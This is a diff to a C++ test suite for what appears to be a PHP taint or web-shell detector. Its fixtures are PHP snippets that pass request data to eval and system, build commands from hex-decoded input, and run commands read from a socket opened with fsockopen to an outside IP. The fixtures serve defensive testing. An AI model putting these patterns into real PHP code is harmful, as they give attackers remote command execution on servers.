@@ -141,6 +141,12 @@ TEST_F(ReachBuiltins, MarkersSurviveTransforms) {
        "<?php system(strtolower('ls ' . $_GET['a'])); system(strtoupper('ls ' . $_GET['a']));",
        {"system(ls $_get_data$_GET_DATA)", "system(LS $_GET_DATA)"},
        {"system(ls $_get_data)", "system(LS $_GET_DATA)"}},
+      {"numbers and characters made from request digits stay request data",
+       "<?php $s = ''; $h = $_POST['h']; $s .= chr(hexdec($h[0] . $h[1])); $s .= chr(hexdec($h[2] . $h[3])); "
+       "eval($s); f(chr(bindec($_GET['b'])), octdec($_COOKIE['o']), chr(hexdec('73'))); "
+       "$q = str_split($_GET['q'], 2); system($q[0]);",
+       {"eval($_POST_DATA$_POST_DATA)", "f($_GET_DATA|$_COOKIE_DATA|s)", "system($_GET_DATA)"},
+       {"eval()", "f(||)", "system(qz_invalid_string)"}},
       {"the decoded marker and decoders of request data",
        "<?php eval(strrev(gzinflate('x'))); eval(hex2bin($_REQUEST['h'])); system(preg_replace('/_/', '', $_GET['c']));",
        {"eval(qz_decoded)", "eval($_REQUEST_DATA qz_decoded)", "system($_GET_DATA)"},
@@ -169,6 +175,11 @@ TEST_F(ReachBuiltins, RequestDataFromOtherSources) {
        "<?php filter_var($_GET['c'], FILTER_CALLBACK, array('options' => 'system')); "
        "filter_var($_GET['d'], FILTER_VALIDATE_INT, array('options' => 'system')); filter_var($x, FILTER_CALLBACK);",
        {"system($_GET_DATA)"}, {}},
+      {"reads of a socket are text off the network",
+       "<?php $s = fsockopen('203.0.113.5', 443); $c = fread($s, 99); system($c); system(fgets($s)); "
+       "$f = fopen('a.txt', 'r'); system(fgets($f));",
+       {"system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)", "system($_FILE_CONTENTS)"},
+       {"system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)"}},
       {"the request body, read whole or through a handle",
        "<?php eval(file_get_contents('php://input')); $fp = fopen('PHP://Input', 'r'); eval(fread($fp, 100)); "
        "eval(fgets($fp)); eval(stream_get_contents($fp)); eval(file_get_contents('/etc/x'));",
